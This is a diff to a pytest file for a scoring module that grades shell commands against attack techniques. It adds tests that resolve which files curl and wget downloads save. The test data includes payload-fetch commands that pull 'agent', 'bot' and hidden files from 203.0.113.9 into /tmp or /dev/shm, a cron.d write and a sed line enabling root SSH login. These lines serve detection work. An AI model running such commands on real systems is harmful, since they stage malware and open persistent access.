@@ -7,7 +7,7 @@ import time
 import pytest
 
 from scoring.commands import Command, parse_script
-from scoring.knowledge import assess_command, location_of
+from scoring.knowledge import assess_command, location_of, writes_of
 
 
 def _techniques(line: str) -> dict[str, float]:
@@ -120,6 +120,8 @@ def test_hostile_arguments_cost_bounded_time() -> None:
     started = time.perf_counter()
     for filler in ("a" * 200_000, "/" * 200_000, "-" * 200_000, "$(" * 50_000):
         assess_command(Command(("chmod", filler, "/tmp/" + filler)))
+        assess_command(Command(("curl", "-sO" + filler, filler, "http://x/" + filler)))
+        assess_command(Command(("wget", *[filler] * 80)))
         parse_script("echo " + filler + " > /etc/cron.d/x")
     assert time.perf_counter() - started < 2.0
 
@@ -196,3 +198,22 @@ def test_routine_work_that_looks_sensitive_stays_weak(line: str) -> None:
 
 def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
     assert _techniques("sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config")["T1098.004"] >= 0.4
+
+
+@pytest.mark.parametrize(("line", "saved"), [
+    ("curl -s -o agent http://203.0.113.9/agent", ("agent",)),
+    ("curl -fsSLo /tmp/k http://203.0.113.9/k", ("/tmp/k",)),  # -o at the end of a cluster, its value next
+    ("curl -sO http://203.0.113.9/agent", ("agent",)),  # -O: named after the URL
+    ("curl --remote-name https://example.org/a/b.sh?v=2#top", ("b.sh",)),
+    ("curl -H 'Referer: http://a/b' --output-dir /dev/shm -O http://203.0.113.9/z", ("/dev/shm/z",)),
+    ("curl http://203.0.113.9/s.sh", ()),  # to standard output
+    ("wget http://203.0.113.9/bot", ("bot",)),  # wget saves by default
+    ("wget -q -P /var/tmp http://203.0.113.9/bot", ("/var/tmp/bot",)),
+    ("wget -qO /tmp/.k http://203.0.113.9/k", ("/tmp/.k",)),  # O's value after the cluster
+    ("wget -qO- http://203.0.113.9/s.sh", ()),
+    ("wget --output-document=- http://203.0.113.9/s.sh", ()),
+    ("wget https://example.org/", ("index.html",)),
+])
+def test_downloads_name_the_files_they_save(line: str, saved: tuple[str, ...]) -> None:
+    """What a download writes, as the file a later `chmod` or `./name` refers to."""
+    assert writes_of(parse_script(line).commands()[0]) == saved
